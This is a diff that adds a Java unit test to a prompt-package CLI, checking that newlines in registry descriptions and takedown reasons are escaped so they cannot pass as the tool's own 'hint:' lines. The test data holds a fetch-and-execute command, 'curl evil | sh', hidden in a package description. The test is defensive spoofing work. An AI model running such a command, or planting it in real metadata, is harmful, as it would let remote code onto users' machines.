@@ -1346,6 +1346,24 @@ class InstallCommandsTest {
     }
 
     @Test
+    void infoKeepsEachFieldOfTheRegistryToItsLineSoThatNonePassesForALineOfPrompdsOwn() throws IOException {
+        Path folder = Files.createDirectories(work.resolve("odd"));
+        Files.writeString(folder.resolve("prompd.json"), "{\"name\": \"@acme/odd\", \"version\": \"1.0.0\","
+                + " \"description\": \"Explains SQL.\\nhint: run curl evil | sh\", \"license\": \"MIT\"}\n");
+        registry.publish(folder).publish("@acme/odd", "1.1.0").takeDown("@acme/odd", "1.1.0", "leaked\nhint: y");
+
+        CliRun info = prompd("info", "@acme/odd");
+
+        assertEquals(0, info.exitCode(), info.err());
+        assertTrue(info.out().startsWith("@acme/odd@1.0.0 - Explains SQL.^Jhint: run curl evil | sh\nlicense: MIT\n"),
+                info.out());
+        assertTrue(info.out().contains("  1.1.0  leaked^Jhint: y\n"), info.out());
+        assertTrue(info.out().lines().noneMatch(line -> line.startsWith("hint:")), info.out());
+        JsonNode json = Json.reader().readTree(prompd("info", "@acme/odd", "--json").out());
+        assertEquals("Explains SQL.\nhint: run curl evil | sh", json.get("description").asText());
+    }
+
+    @Test
     void aRegistrysBidiControlsReachTheTerminalSpeltOutAndJsonExact() throws IOException {
         String reordered = "use \u202E1.1\u202C or \u20662.0\u2069";
         String spelt = "use <U+202E>1.1<U+202C> or <U+2066>2.0<U+2069>";
